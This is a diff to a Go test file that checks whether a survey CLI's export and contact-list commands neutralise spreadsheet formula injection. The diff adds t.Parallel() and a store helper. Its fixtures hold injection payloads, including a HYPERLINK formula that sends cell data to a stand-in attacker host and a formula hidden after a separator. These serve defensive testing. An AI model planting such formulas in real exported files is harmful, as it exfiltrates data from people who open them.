@@ -19,6 +19,7 @@ const formula = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
 // the added quote as part of the answer (documented in
 // docs/survey-format.md).
 func TestExportNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
 	dsn := filepath.Join(t.TempDir(), "f.db")
 	in := header(t) + "\n" + row(t, map[string]string{"response_id": "a1", "submitted_on": "2016-05-03",
 		"benefits_comment": formula, "other_comments": "@SUM(1)", "region": "london"}) + "\n"
@@ -86,11 +87,9 @@ func addContacts(t *testing.T, db *store.DB, cs ...store.Contact) {
 // TestContactsListNeutralisesFormulas: contact details are typed by
 // respondents; contacts list quotes a formula unless --raw is given.
 func TestContactsListNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
 	dsn := filepath.Join(t.TempDir(), "c.db")
-	db, err := store.Open(context.Background(), dsn)
-	if err != nil {
-		t.Fatal(err)
-	}
+	db := openStore(t, dsn)
 	addContacts(t, db, store.Contact{SurveySlug: slug, Name: formula, Email: "ada@example.nhs.uk", Organisation: "+44 trust"})
 	db.Close()
 	_, out, _ := cli(t, "", "contacts", "list", "--db", dsn)
@@ -113,11 +112,9 @@ func TestContactsListNeutralisesFormulas(t *testing.T) {
 // one must not run. Each part of every line, split on any of them, must
 // not begin as a formula.
 func TestContactsListFormulaAfterSeparator(t *testing.T) {
+	t.Parallel()
 	dsn := filepath.Join(t.TempDir(), "c.db")
-	db, err := store.Open(context.Background(), dsn)
-	if err != nil {
-		t.Fatal(err)
-	}
+	db := openStore(t, dsn)
 	org := `x;=HYPERLINK("http://evil.example/?x="&A1,"click")`
 	addContacts(t, db, store.Contact{SurveySlug: slug, Name: "Ada,=1+12", Email: "ada@example.nhs.uk", Organisation: org})
 	db.Close()
